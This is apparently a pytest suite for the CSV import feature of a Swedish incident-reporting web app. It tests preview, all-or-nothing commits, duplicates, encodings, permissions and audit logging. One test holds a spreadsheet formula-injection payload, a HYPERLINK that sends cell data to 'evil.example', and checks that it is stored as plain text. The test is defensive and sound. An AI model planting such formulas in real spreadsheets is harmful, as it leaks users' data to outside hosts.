"""CSV import: preview first, then one all-or-nothing transaction; duplicates, encodings, formula text."""

from __future__ import annotations

import io
import json
import uuid
from datetime import datetime, timezone

import pytest
from sqlalchemy import func, select

from tests.conftest import csrf_from


@pytest.fixture(autouse=True)
def sync_imports(app):
    app.config["LOTS_IMPORT_SYNC"] = True
    yield
    app.config["LOTS_IMPORT_SYNC"] = True


@pytest.fixture()
def taxonomy(incidents):
    tag = uuid.uuid4().hex[:5]
    return {
        "centrum": incidents.area(code=f"centrum-{tag}", name=f"Centrum {tag}"),
        "norr": incidents.area(code=f"norr-{tag}", name=f"Norrviken {tag}"),
        "klotter": incidents.category(code=f"klotter-{tag}", name_sv=f"Klotter {tag}", name_en=f"Graffiti {tag}"),
        "brand": incidents.category(code=f"brand-{tag}", name_sv=f"Brand {tag}", name_en=f"Fire {tag}"),
    }


def upload(client, raw: bytes, organisation, filename="export.csv"):
    page = client.get("/reports/import")
    assert page.status_code == 200
    return client.post("/reports/import", data={
        "file": (io.BytesIO(raw), filename), "organisation_id": str(organisation.id),
        "csrf_token": csrf_from(page.text)}, content_type="multipart/form-data")


def job_of(db, response):
    from app.overview.models import ImportJob

    assert response.status_code == 302, response.text[:800]
    job_id = uuid.UUID(response.headers["Location"].rstrip("/").split("/")[-1])
    return db.get(ImportJob, job_id)


def confirm(client, job, accept=False):
    page = client.get(f"/reports/import/{job.id}")
    data = {"csrf_token": csrf_from(page.text)}
    if accept:
        data["accept"] = "y"
    return client.post(f"/reports/import/{job.id}/confirm", data=data)


def reports_of(db, job=None, organisation=None):
    from app.overview.models import IncidentReport

    stmt = select(IncidentReport)
    if job is not None:
        stmt = stmt.where(IncidentReport.import_job_id == job.id)
    if organisation is not None:
        stmt = stmt.where(IncidentReport.organisation_id == organisation.id)
    return list(db.scalars(stmt.order_by(IncidentReport.occurred_at)))


def csv_text(t, rows, delimiter=";", header=None):
    header = header or ["Extern id", "Datum/tid", "Område", "Kategori", "Miljö", "Plats", "Beskrivning"]
    lines = [delimiter.join(header)]
    for row in rows:
        lines.append(delimiter.join(row))
    return "\r\n".join(lines) + "\r\n"


def good_rows(t, n=3, prefix="A"):
    return [[f"{prefix}{i}", f"2026-03-{10 + i:02d} 14:0{i}", t["centrum"].code, t["klotter"].name_sv, "offentlig",
             f"Torget {i}", f"Text {i}"] for i in range(n)]


def test_preview_shows_mapping_and_imports_nothing_until_confirmed(client, db, login_as, factory, taxonomy, app):
    analyst = login_as("analyst")
    org = factory.agency(kind="housing")
    job = job_of(db, upload(client, csv_text(taxonomy, good_rows(taxonomy)).encode("utf-8"), org))
    page = client.get(f"/reports/import/{job.id}")
    assert page.status_code == 200
    assert "Datum/tid" in page.text and "Tidpunkt" in page.text and "Inga felaktiga rader" in page.text
    assert job.status.value == "preview" and job.total_rows == 3 and job.user_id == analyst.id
    with app.app_context():
        assert job.content.startswith("Extern id;Datum/tid")
    assert reports_of(db, organisation=org) == []

    assert confirm(client, job).status_code == 303
    db.refresh(job)
    stored = reports_of(db, job=job)
    assert [r.external_id for r in stored] == ["A0", "A1", "A2"]
    assert all(r.organisation_id == org.id and r.source.value == "import" and r.status.value == "new" for r in stored)
    with app.app_context():
        assert stored[0].description == "Text 0"
    # 2026-03-10 14:00 Stockholm (CET) is 13:00 UTC; week and local date derived.
    assert stored[0].occurred_at.replace(tzinfo=timezone.utc) == datetime(2026, 3, 10, 13, 0, tzinfo=timezone.utc)
    assert (stored[0].iso_year, stored[0].iso_week, stored[0].local_date.isoformat()) == (2026, 11, "2026-03-10")
    assert job.status.value == "done" and (job.imported, job.duplicates, job.invalid) == (3, 0, 0)
    assert job.content_ct is None and job.data_key.destroyed_at is not None


def test_accept_option_marks_reports_accepted_by_the_importer(client, db, login_as, factory, taxonomy):
    analyst = login_as("analyst")
    org = factory.agency(kind="housing")
    job = job_of(db, upload(client, csv_text(taxonomy, good_rows(taxonomy, 2)).encode(), org))
    confirm(client, job, accept=True)
    stored = reports_of(db, job=job)
    assert {r.status.value for r in stored} == {"accepted"}
    assert {r.reviewed_by_id for r in stored} == {analyst.id}


def test_malformed_rows_are_listed_with_line_and_reason_and_skipped(client, db, login_as, factory, taxonomy):
    login_as("analyst")
    org = factory.agency(kind="school")
    t = taxonomy
    rows = [
        ["B1", "2026-13-45 10:00", t["centrum"].code, t["klotter"].code, "offentlig", "", ""],   # bad date
        ["B2", "2026-03-01 10:00", "okänt-område", t["klotter"].code, "offentlig", "", ""],     # unknown area
        ["B3", "2026-03-01 10:00", t["centrum"].code, "ingen-sådan", "offentlig", "", ""],     # unknown category
        ["B4", "2026-03-01 10:00", t["centrum"].code],                                            # too few cells
        ["B5", "2026-03-01 10:00", t["centrum"].code, t["brand"].name_en, "semi-public", "", ""],  # valid
    ]
    job = job_of(db, upload(client, csv_text(t, rows).encode(), org))
    assert (job.total_rows, job.invalid) == (5, 4)
    page = client.get(f"/reports/import/{job.id}")
    text = page.text
    assert "Ogiltig tidpunkt" in text and "Okänt område." in text and "Okänd kategori." in text
    assert "Raden har fel antal kolumner." in text
    errors = json.loads(job.mapping)["errors"]
    assert [e[0] for e in errors] == [2, 3, 4, 5]
    confirm(client, job)
    stored = reports_of(db, job=job)
    assert [r.external_id for r in stored] == ["B5"] and stored[0].setting.value == "semi_public"
    assert stored[0].category_id == t["brand"].id


def test_many_invalid_rows_are_paginated(client, db, login_as, factory, taxonomy):
    login_as("analyst")
    org = factory.agency(kind="school")
    rows = [[f"C{i}", "inte ett datum", taxonomy["centrum"].code, taxonomy["klotter"].code, "", "", ""]
            for i in range(120)]
    job = job_of(db, upload(client, csv_text(taxonomy, rows).encode(), org))
    first = client.get(f"/reports/import/{job.id}")
    assert "Sida 1 av 3" in first.text
    last = client.get(f"/reports/import/{job.id}?page=3")
    assert ">121<" in last.text and ">2<" not in last.text.split('id="invalid"')[1].split("</table>")[0]


def test_missing_required_columns_refuse_the_file_with_a_clear_message(client, db, login_as, factory):
    from app.overview.models import ImportJob

    login_as("analyst")
    org = factory.agency(kind="school")
    before = db.scalar(select(func.count()).select_from(ImportJob))
    resp = upload(client, b"Plats;Beskrivning\r\nTorget;Text\r\n", org)
    assert resp.status_code == 400
    assert "Filen saknar kolumner för: datum/tid, område, kategori" in resp.text
    assert db.scalar(select(func.count()).select_from(ImportJob)) == before


def test_latin1_file_is_detected_and_imported_with_swedish_letters(client, db, login_as, factory, incidents, app):
    login_as("analyst")
    org = factory.agency(kind="housing")
    tag = uuid.uuid4().hex[:5]
    area = incidents.area(code=f"ang-{tag}", name=f"Ängsby {tag}")
    category = incidents.category(code=f"ned-{tag}", name_sv=f"Nedskräpning {tag}", name_en=f"Littering {tag}")
    text = (f"datum,tid,område,kategori,plats,beskrivning\n"
            f"2026-02-03,21.30,Ängsby {tag},nedskräpning {tag},Gångtunneln vid ån,Skräp överallt på gården\n")
    job = job_of(db, upload(client, text.encode("latin-1"), org))
    page = client.get(f"/reports/import/{job.id}")
    assert "Windows-1252/Latin-1" in page.text
    assert json.loads(job.mapping)["layout"]["delimiter"] == ","
    confirm(client, job)
    (report,) = reports_of(db, job=job)
    with app.app_context():
        assert report.place == "Gångtunneln vid ån" and report.description == "Skräp överallt på gården"
    assert report.area_id == area.id and report.category_id == category.id
    assert report.setting.value == "public"
    assert report.occurred_at.replace(tzinfo=timezone.utc) == datetime(2026, 2, 3, 20, 30, tzinfo=timezone.utc)


def test_utf8_bom_and_english_headers_with_comma(client, db, login_as, factory, taxonomy):
    login_as("analyst")
    org = factory.agency(kind="police")
    t = taxonomy
    text = ("external_id,occurred_at,area,category,setting,place,description,lat,lon\n"
            f"E1,2026-04-01T08:00:00+02:00,{t['norr'].name},{t['klotter'].name_en},semi_public,Skolgården,Tags,"
            "\"59,43\",\"17,95\"\n")
    job = job_of(db, upload(client, b"\xef\xbb\xbf" + text.encode("utf-8"), org))
    assert json.loads(job.mapping)["layout"]["encoding"] == "utf-8-sig"
    confirm(client, job)
    (report,) = reports_of(db, job=job)
    assert report.area_id == t["norr"].id and (report.latitude, report.longitude) == (59.43, 17.95)
    assert report.occurred_at.replace(tzinfo=timezone.utc) == datetime(2026, 4, 1, 6, 0, tzinfo=timezone.utc)


def test_formula_text_is_stored_exactly_as_text(client, db, login_as, factory, taxonomy, app):
    login_as("analyst")
    org = factory.agency(kind="housing")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
    rows = [["F1", "2026-03-02 10:00", taxonomy["centrum"].code, taxonomy["klotter"].code, "offentlig",
             "@SUM(1+1)", formula.replace('"', '""')]]
    text = csv_text(taxonomy, [[c if not c.startswith("=") else f'"{c}"' for c in row] for row in rows])
    job = job_of(db, upload(client, text.encode(), org))
    confirm(client, job)
    (report,) = reports_of(db, job=job)
    with app.app_context():
        assert report.description == formula
    assert report.place == "@SUM(1+1)"


def test_reimporting_the_same_file_creates_no_duplicates(client, db, login_as, factory, taxonomy):
    login_as("analyst")
    org = factory.agency(kind="housing")
    t = taxonomy
    rows = good_rows(t, 3, prefix="D")
    no_id = ["", "2026-03-20 09:00", t["centrum"].code, t["brand"].code, "offentlig", "Parken", "Eld i papperskorg"]
    rows += [no_id, list(no_id)]  # the same incident twice without an id: a duplicate within the file
    raw = csv_text(t, rows).encode()
    first = job_of(db, upload(client, raw, org))
    assert (first.total_rows, first.duplicates) == (5, 1)
    confirm(client, first)
    assert len(reports_of(db, organisation=org)) == 4

    second = job_of(db, upload(client, raw, org))
    assert second.duplicates == 5
    page = client.get(f"/reports/import/{second.id}")
    assert "Samma fil importerades redan" in page.text
    confirm(client, second)
    db.refresh(second)
    assert (second.imported, second.duplicates) == (0, 5)
    assert len(reports_of(db, organisation=org)) == 4


def test_same_external_id_in_another_organisation_is_not_a_duplicate(client, db, login_as, factory, taxonomy):
    login_as("analyst")
    raw = csv_text(taxonomy, good_rows(taxonomy, 1, prefix="X")).encode()
    for kind in ("housing", "school"):
        org = factory.agency(kind=kind)
        job = job_of(db, upload(client, raw, org))
        confirm(client, job)
        assert len(reports_of(db, organisation=org)) == 1


def test_interrupted_import_leaves_nothing_half_imported(client, db, login_as, factory, taxonomy, monkeypatch):
    from app.overview.importing import runner

    login_as("analyst")
    org = factory.agency(kind="housing")
    monkeypatch.setattr(runner, "CHUNK_SIZE", 2)
    calls = {"n": 0}
    real_insert = runner.insert_chunk

    def failing_insert(session, rows):
        calls["n"] += 1
        if calls["n"] == 3:
            raise runner.ImportInterrupted("simulated failure in the third chunk")
        real_insert(session, rows)

    monkeypatch.setattr(runner, "insert_chunk", failing_insert)
    job = job_of(db, upload(client, csv_text(taxonomy, good_rows(taxonomy, 7, prefix="I")).encode(), org))
    confirm(client, job)
    db.expire_all()
    assert calls["n"] == 3
    assert reports_of(db, job=job) == [] and reports_of(db, organisation=org) == []
    assert job.status.value == "failed" and job.imported == 0
    assert job.content_ct is None
    status = client.get(f"/reports/import/{job.id}/status").get_json()
    assert status["status"] == "failed" and "ingen rad sparades" in status["message"]
    page = client.get(f"/reports/import/{job.id}")
    assert "Importen avbröts och ingen rad sparades" in page.text


def test_progress_json_reports_counts(client, db, login_as, factory, taxonomy):
    login_as("analyst")
    org = factory.agency(kind="housing")
    rows = good_rows(taxonomy, 4, prefix="P") + [["P9", "fel", taxonomy["centrum"].code, "x", "", "", ""]]
    job = job_of(db, upload(client, csv_text(taxonomy, rows).encode(), org))
    before = client.get(f"/reports/import/{job.id}/status").get_json()
    assert before == {"status": "preview", "processed": 0, "total": 5, "imported": 0, "duplicates": 0, "invalid": 1}
    confirm(client, job)
    after = client.get(f"/reports/import/{job.id}/status").get_json()
    assert after == {"status": "done", "processed": 5, "total": 5, "imported": 4, "duplicates": 0, "invalid": 1}
    page = client.get(f"/reports/import/{job.id}")
    assert "<progress" in page.text and "import.js" in page.text


def test_confirming_twice_imports_once(client, db, login_as, factory, taxonomy):
    login_as("analyst")
    org = factory.agency(kind="housing")
    job = job_of(db, upload(client, csv_text(taxonomy, good_rows(taxonomy, 2, prefix="T")).encode(), org))
    page = client.get(f"/reports/import/{job.id}")
    token = csrf_from(page.text)
    client.post(f"/reports/import/{job.id}/confirm", data={"csrf_token": token})
    again = client.post(f"/reports/import/{job.id}/confirm", data={"csrf_token": token}, follow_redirects=True)
    assert "redan bekräftad" in again.text
    assert len(reports_of(db, organisation=org)) == 2


def test_cancel_discards_the_upload(client, db, login_as, factory, taxonomy):
    login_as("analyst")
    org = factory.agency(kind="housing")
    job = job_of(db, upload(client, csv_text(taxonomy, good_rows(taxonomy, 1)).encode(), org))
    page = client.get(f"/reports/import/{job.id}")
    token = csrf_from(page.text)
    refused = client.post(f"/reports/import/{job.id}/cancel", data={"csrf_token": token})
    assert refused.status_code == 303 and f"/reports/import/{job.id}" in refused.headers["Location"]
    db.refresh(job)
    assert job.status.value == "preview" and job.content_ct is not None  # nothing happens without the tick
    client.post(f"/reports/import/{job.id}/cancel", data={"csrf_token": token, "confirmed": "y"})
    db.refresh(job)
    assert job.status.value == "cancelled" and job.content_ct is None
    assert confirm(client, job).status_code == 303
    assert reports_of(db, organisation=org) == []


@pytest.mark.parametrize("role", ["reporter", "process_leader", "coordinator", "admin", "auditor", "partner"])
def test_only_analysts_may_import(client, login_as, role):
    login_as(role)
    assert client.get("/reports/import").status_code == 403
    assert client.post("/reports/import", data={}).status_code in (400, 403)


def test_another_analysts_import_job_is_not_found(client, db, login_as, factory, taxonomy, app):
    from tests.conftest import login

    login_as("analyst")
    org = factory.agency(kind="housing")
    job = job_of(db, upload(client, csv_text(taxonomy, good_rows(taxonomy, 1)).encode(), org))
    client.post("/logout", data={})
    other = app.test_client()
    login(other, factory.user(roles=("analyst",)))
    assert other.get(f"/reports/import/{job.id}").status_code == 404
    assert other.get(f"/reports/import/{job.id}/status").status_code == 404
    assert other.get("/reports/import/not-a-uuid").status_code == 404


def test_audit_events_carry_counts_but_no_row_content(client, db, login_as, factory, taxonomy):
    from app.audit.models import AuditEvent

    login_as("analyst")
    org = factory.agency(kind="housing")
    job = job_of(db, upload(client, csv_text(taxonomy, good_rows(taxonomy, 2, prefix="Q")).encode(), org))
    confirm(client, job)
    events = list(db.scalars(select(AuditEvent).where(AuditEvent.object_id == str(job.id)).order_by(AuditEvent.id)))
    # confirm() opens the preview first: reading its review (it quotes the file) is an event of its own.
    assert [e.action for e in events] == ["import.previewed", "import.review_read", "import.confirmed",
                                          "import.finished"]
    finished = json.loads(events[-1].detail)
    assert finished["imported"] == "2" and finished["status"] == "done"
    blob = " ".join(f"{e.detail} {e.purpose}" for e in events)
    assert "Torget" not in blob and "Text 0" not in blob and "Q0" not in blob


def test_empty_and_binary_files_are_refused(client, login_as, factory):
    login_as("analyst")
    org = factory.agency(kind="housing")
    assert upload(client, b"", org).status_code == 400
    assert upload(client, b"\x00\x01\x02datum;omrade", org).status_code == 400
    assert upload(client, b"datum;omr\xc3\xa5de;kategori\r\n", org).status_code == 400



def test_too_many_rows_are_refused_before_any_work(client, app, login_as, factory, taxonomy):
    login_as("analyst")
    org = factory.agency(kind="housing")
    app.config["LOTS_IMPORT_MAX_ROWS"] = 3
    try:
        resp = upload(client, csv_text(taxonomy, good_rows(taxonomy, 5)).encode(), org)
    finally:
        app.config.pop("LOTS_IMPORT_MAX_ROWS")
    assert resp.status_code == 400 and "fler än 3 rader" in resp.text
